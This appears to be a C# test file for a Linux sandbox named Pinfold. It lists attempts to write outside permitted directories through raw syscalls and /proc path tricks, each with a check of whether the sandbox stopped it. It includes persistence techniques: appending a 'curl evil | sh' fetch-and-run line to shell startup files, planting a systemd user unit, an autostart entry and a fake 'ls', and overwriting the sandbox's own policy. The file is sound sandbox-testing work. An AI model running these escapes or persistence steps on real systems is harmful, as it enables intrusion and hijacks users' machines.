using static Pinfold.Linux.Attacks.SystemCall;

namespace Pinfold.Linux.Attacks;

/// <summary>Changing what lies outside the writable roots.</summary>
internal static class OutsideWrites
{
    internal static IEnumerable<AttackCode> Codes =>
    [
        new("write-outside-create",
            Run: a => Fill(a, a.Outside + "/new", Flag.WriteOnly | Flag.Create),
            Worked: s => s.Text("outside/new") is not null),
        new("write-outside-append", a => Fill(a, a.Outside + "/file", Flag.WriteOnly | Flag.Append), Changed),
        new("write-outside-truncate",
            Run: a => a.Try("openat", Open(a.Outside + "/file", Flag.WriteOnly | Flag.Truncate)),
            Worked: Changed),
        new("write-outside-truncate-read-only",
            Run: a => a.Try("openat", Open(a.Outside + "/file", Flag.ReadOnly | Flag.Truncate)),
            Worked: Changed),
        new("write-outside-truncate-path",
            Run: a => a.Try("truncate", Call(Sys.Truncate, Text(a.Outside + "/file"), 0)),
            Worked: Changed),
        new("write-outside-unlink", a => a.Try("unlinkat", Call(Sys.Unlinkat, AT_FDCWD, Text(a.Outside + "/file"))),
            s => s.Text("outside/file") is null),
        new("write-outside-mkdir",
            a => a.Try("mkdirat", Call(Sys.Mkdirat, AT_FDCWD, Text(a.Outside + "/folder"), 0x1ED)),
            s => Directory.Exists(s.Outside + "/folder")),
        new("write-outside-rename", a => a.Try("renameat", Rename(a.Outside + "/file", a.Outside + "/moved")),
            s => s.Text("outside/moved") is not null),
        new("write-outside-symlink",
            a => a.Try("symlinkat", Call(Sys.Symlinkat, Text("/etc/passwd"), AT_FDCWD, Text(a.Outside + "/link"))),
            s => new FileInfo(s.Outside + "/link").LinkTarget is not null),
        new("write-outside-mkfifo",
            a => a.Try("mknodat", Call(Sys.Mknodat, AT_FDCWD, Text(a.Outside + "/fifo"), 0x1180)),
            s => File.Exists(s.Outside + "/fifo")),
        new("write-outside-tmpfile-link", UnnamedFile, s => s.Text("outside/unnamed") is not null),
        new("write-outside-chmod",
            Run: a => a.Try("fchmodat", Call(Sys.Fchmodat, AT_FDCWD, Text(a.Outside + "/file"), 0x1FF)),
            Worked: OthersMayWrite),
        new("write-outside-chmod-by-descriptor",
            a => a.Try("fchmod", Call(Sys.Fchmod, a.Need("openat", Open(a.Outside + "/file", Flag.ReadOnly)), 0x1FF)),
            OthersMayWrite),
        new("write-outside-chown",
            a => a.Try("fchownat", Call(Sys.Fchownat, AT_FDCWD, Text(a.Outside + "/file"), Call(Sys.Getuid), -1)),
            s => s.Report.Succeeded),
        new("write-outside-utimens",
            a => a.Try("utimensat", Call(Sys.Utimensat, AT_FDCWD, Text(a.Outside + "/file"), Words(1000, 0, 1000, 0))),
            s => File.GetLastWriteTimeUtc(s.Outside + "/file").Year == 1970),
        new("write-outside-setxattr",
            a => a.Try("setxattr", Call(Sys.Setxattr, Text(a.Outside + "/file"), Text("user.pinfold"), Text("x"), 1)),
            s => s.Report.Succeeded),
        new("write-outside-file-flags", FileFlags, s => s.Report.Succeeded),
        new("write-outside-fifo", WriteFifo,
            s => Read(s.Own(new Native.Descriptor(int.Parse(s.Fact("reader")))).Number) is { Length: > 0 })
            { Prepare = ReadableFifo },
        new("write-outside-reopened-descriptor", Reopen, Changed),
        new("write-through-proc-self-root",
            Run: a => Fill(a, "/proc/self/root" + a.Outside + "/file", Flag.WriteOnly | Flag.Append),
            Worked: Changed),
        new("write-through-outside-process-root",
            a => Fill(a, $"/proc/{a["victim"]}/root{a.Outside}/file", Flag.WriteOnly | Flag.Append), Changed)
            { Prepare = s => _ = s.Victim, Denials = Refusals.Hidden },
        new("write-through-outside-process-cwd",
            a => Fill(a, $"/proc/{a["victim"]}/cwd{a.Outside}/file", Flag.WriteOnly | Flag.Append), Changed)
            { Prepare = s => _ = s.Victim, Denials = Refusals.Hidden },
        new("write-shell-startup", Startup, s => s.Text("home/.bashrc") != Scene.Untouched) { Prepare = StartupFiles },
        new("write-systemd-user-unit",
            a => Fill(a, a.Home + "/.config/systemd/user/evil.service", Flag.WriteOnly | Flag.Create),
            s => s.Text("home/.config/systemd/user/evil.service") is not null)
            { Prepare = s => s.Make("home/.config/systemd/user") },
        new("write-autostart", a => Fill(a, a.Home + "/.config/autostart/evil.desktop", Flag.WriteOnly | Flag.Create),
            s => s.Text("home/.config/autostart/evil.desktop") is not null)
            { Prepare = s => s.Make("home/.config/autostart") },
        new("write-path-program", a => Fill(a, a.Home + "/.local/bin/ls", Flag.WriteOnly | Flag.Create),
            s => s.Text("home/.local/bin/ls") is not null)
            { Prepare = s => s.Make("home/.local/bin") },
        new("write-user-policy", a => Fill(a, a.Home + "/.config/pinfold/policy.toml", Flag.WriteOnly | Flag.Truncate),
            s => s.Text("home/.config/pinfold/policy.toml") != Scene.Untouched)
            { Prepare = s => s.Put("home/.config/pinfold/policy.toml", Scene.Untouched) },
        new("write-own-state", a => Fill(a, a["state"] + "/proof.json", Flag.WriteOnly | Flag.Create),
            s => s.Text("state/proof.json") is not null)
            { Denials = Refusals.Hidden },
        new("write-own-program",
            a => Fill(a, a.Home + "/.local/lib/pinfold/pinfold-launcher", Flag.WriteOnly | Flag.Truncate),
            s => s.Text("home/.local/lib/pinfold/pinfold-launcher") != Scene.Untouched)
            { Prepare = s => s.Put("home/.local/lib/pinfold/pinfold-launcher", Scene.Untouched) },
    ];

    internal static nint Rename(string from, string to) =>
        Call(Sys.Renameat2, AT_FDCWD, Text(from), AT_FDCWD, Text(to));

    /// <summary>Opens and, if that was allowed, writes.</summary>
    internal static void Fill(Attempt a, string path, int flags)
    {
        var fd = a.Try("openat", Open(path, flags));
        if (fd >= 0) a.Try("write", Write(fd, "written by an attack\n"));
    }

    private static bool OthersMayWrite(Scene scene) =>
        File.GetUnixFileMode(scene.Outside + "/file").HasFlag(UnixFileMode.OtherWrite);

    private static bool Changed(Scene scene) => !scene.OutsideIsUntouched;

    private static void UnnamedFile(Attempt a)
    {
        var fd = a.Try("openat O_TMPFILE", Open(a.Outside, Flag.WriteOnly | Flag.Temporary));
        if (fd >= 0)
            a.Try("linkat",
                Call(Sys.Linkat, AT_FDCWD, Text($"/proc/self/fd/{fd}"), AT_FDCWD, Text(a.Outside + "/unnamed"),
                    0x400 /* AT_SYMLINK_FOLLOW */));
    }

    /// <summary>chattr +d: FS_IOC_SETFLAGS with FS_NODUMP_FL (ioctl_iflags(2)).</summary>
    private static void FileFlags(Attempt a)
    {
        var fd = a.Need("openat", Open(a.Outside + "/file", Flag.ReadOnly));
        var flags = Words(0);
        a.Need("FS_IOC_GETFLAGS", Call(Sys.Ioctl, fd, unchecked((nint)0x80086601), flags));
        a.Try("FS_IOC_SETFLAGS",
            Call(Sys.Ioctl, fd, 0x40086602, Words(System.Runtime.InteropServices.Marshal.ReadInt32(flags) | 0x40)));
    }

    private static void ReadableFifo(Scene scene)
    {
        var path = scene.Outside + "/control";
        if (Call(Sys.Mknodat, AT_FDCWD, Text(path), 0x1180) < 0) throw new IOException("mkfifo");
        scene.Tell("reader", Open(path, Flag.ReadOnly | Flag.NonBlocking));
    }

    private static void WriteFifo(Attempt a)
    {
        var fd = a.Try("openat", Open(a.Outside + "/control", Flag.WriteOnly | Flag.NonBlocking));
        if (fd >= 0) a.Try("write", Write(fd, "command\n"));
    }

    private static void Reopen(Attempt a)
    {
        var fd = a.Need("openat", Open(a.Outside + "/file", Flag.ReadOnly));
        Fill(a, $"/proc/self/fd/{fd}", Flag.WriteOnly | Flag.Append);
        var path = a.Need("openat O_PATH", Open(a.Outside + "/file", Flag.Path));
        Fill(a, $"/proc/self/fd/{path}", Flag.WriteOnly | Flag.Append);
    }

    private static void StartupFiles(Scene scene)
    {
        scene.Put("home/.bashrc", Scene.Untouched);
        scene.Make("home/.config/fish");
    }

    private static void Startup(Attempt a)
    {
        foreach (var name in (string[])[".bashrc", ".profile", ".zshrc", ".bash_profile", ".config/fish/config.fish"])
        {
            var fd = a.Try("openat " + name,
                Open(a.Home + "/" + name, Flag.WriteOnly | Flag.Append | (name == ".bashrc" ? 0 : Flag.Create)));
            if (fd >= 0) a.Try("write", Write(fd, "curl evil | sh\n"));
        }
    }
}
